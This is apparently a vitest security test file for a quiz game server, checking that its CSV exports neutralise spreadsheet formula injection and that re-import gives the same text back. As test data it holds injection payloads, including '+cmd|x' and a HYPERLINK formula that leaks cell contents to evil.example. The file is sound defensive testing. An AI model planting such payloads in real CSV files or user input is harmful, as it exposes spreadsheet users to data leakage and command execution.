// Attack: CSV formula injection. Nicknames such as =1+1 or @SUM(A1) and set texts such as
// =HYPERLINK(…) reached the teacher's answers.csv and a set's export.csv raw, where a spreadsheet
// runs them. Every CSV the server writes now starts such cells with an apostrophe (shown as text,
// never run), and an import reads them back as the same text.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { answerFor } from '../helpers/answers.ts';
import { messages, startTarget, type Target } from './harness.ts';

const FORMULAS = ['=1+1', '@SUM(A1)', '+cmd|x', '-2+3', '=A1'];
const isLive = (cell: string) => /^\s*[=+\-@]|^[\t\r]/.test(cell);

let t: Target;
beforeAll(async () => {
  t = await startTarget();
});
afterAll(async () => {
  await t.stop();
});

const csvRows = async (res: Response) => parse((await res.text()).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('CSV cells a spreadsheet would run', () => {
  it("nicknames reach the teacher's answers.csv as text", async () => {
    const game = await t.createGame();
    const host = await t.client().joinById(game.code, { hostToken: game.hostToken });
    host.onMessage('*', () => undefined);
    const phones: { room: Awaited<ReturnType<ReturnType<Target['client']>['joinById']>>; log: ReturnType<typeof messages> }[] = [];
    for (const name of FORMULAS) {
      const room = await t.client().joinById(game.code, { name });
      const log = messages(room);
      await vi.waitFor(() => expect(log.last('welcome')).toBeDefined());
      phones.push({ room, log });
    }
    host.send('host:start', {});
    await vi.waitFor(() => expect((phones[0]!.room.state as any).phase).toBe('question'), { timeout: 10_000 });
    for (const p of phones) p.room.send('answer', { seq: (p.room.state as any).question.seq, answer: answerFor(p.room) });
    const auth = { authorization: `Bearer ${game.hostToken}` };
    await vi.waitFor(async () => expect((await fetch(`${t.url}/api/games/${game.code}/results`, { headers: auth })).status).toBe(200), { timeout: 15_000 });
    const rows = await csvRows(await fetch(`${t.url}/api/games/${game.code}/answers.csv`, { headers: auth }));
    const cells = rows.flat();
    for (const name of FORMULAS) expect(cells).toContain(`'${name}`);
    expect(cells.filter(isLive)).toEqual([]);
    const scenarios = await csvRows(await fetch(`${t.url}/api/games/${game.code}/scenarios.csv`, { headers: auth }));
    expect(scenarios.flat().filter(isLive)).toEqual([]);
    await Promise.all([host.leave(true), ...phones.map((p) => p.room.leave(true))]);
  });

  it("a set's export.csv holds its texts as text, and importing that file gives the same set back", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const set = {
      title: '@title',
      lang: 'en',
      questions: [
        { id: 'q1', type: 'single', difficulty: 1, text: { en: evil }, explanation: { en: '+because' }, options: [{ text: { en: '-1' }, correct: true }, { text: { en: '@two' }, correct: false }] },
        { id: 'q2', type: 'numeric', difficulty: 2, text: { en: 'How cold?' }, min: -40, max: 10, step: 1, answer: -5, tolerance: 2, unit: { en: '=°C' } },
      ],
    };
    const made = await t.post('/api/sets', set);
    expect(made.status).toBe(201);
    const exported = await (await fetch(`${t.url}/api/sets/${made.body.id}/export.csv`)).text();
    const rows = parse(exported.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const header = rows[0]!;
    const text = (r: number, col: string) => rows[r]![header.indexOf(col)]!;
    expect(text(1, 'question')).toBe(`'${evil}`);
    expect(text(1, 'option1')).toBe("'-1");
    expect(text(1, 'set_title')).toBe("'@title");
    expect(text(2, 'min')).toBe('-40'); // numbers stay numbers
    for (const [i, row] of rows.entries()) for (const [j, cell] of row.entries()) if (!['min', 'answer', 'max'].includes(header[j]!)) expect(isLive(cell), `row ${i} ${header[j]}`).toBe(false);

    const back = await fetch(`${t.url}/api/sets`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body: exported });
    expect(back.status).toBe(201);
    const again = (await (await fetch(`${t.url}/api/sets/${((await back.json()) as { id: string }).id}`)).json()) as typeof set;
    expect(again.title).toBe('@title');
    expect(again.questions[0]?.text.en).toBe(evil);
    expect((again.questions[0] as unknown as { options: { text: { en: string } }[] }).options[0]?.text.en).toBe('-1');
    expect((again.questions[1] as unknown as { min: number; unit: { en: string } }).min).toBe(-40);
    expect((again.questions[1] as unknown as { unit: { en: string } }).unit.en).toBe('=°C');
  });
});
